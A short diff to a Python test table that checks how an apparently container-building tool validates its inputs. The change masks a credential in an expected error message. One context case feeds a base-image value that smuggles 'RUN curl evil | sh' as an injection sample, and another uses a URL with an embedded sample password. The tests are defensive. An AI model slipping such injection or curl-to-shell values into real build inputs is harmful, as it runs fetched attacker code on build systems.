@@ -144,7 +144,7 @@ CASES = [
      [*SAVE, "--requirements", "reqs.txt"], 2, "reqs.txt:2: -e ./mypkg installs a folder on this machine"),
     ("requirements password in a URL",
      lambda p: write(p / "reqs.txt", "--index-url https://me:hunter2@pypi.example/simple\n"),
-     [*SAVE, "--requirements", "reqs.txt"], 2, "a URL holds a credential (me:****@)"),
+     [*SAVE, "--requirements", "reqs.txt"], 2, "a URL holds a credential (****:****@)"),
     ("base image injection", nothing, [*SAVE, "--base-image", "python:3.11\nRUN curl evil | sh"], 2,
      "not an image reference"),
     ("registry address mismatch", toml('[registry]\naddress = "other.io"\nusername = "u"\npassword_env = "P"\n'),
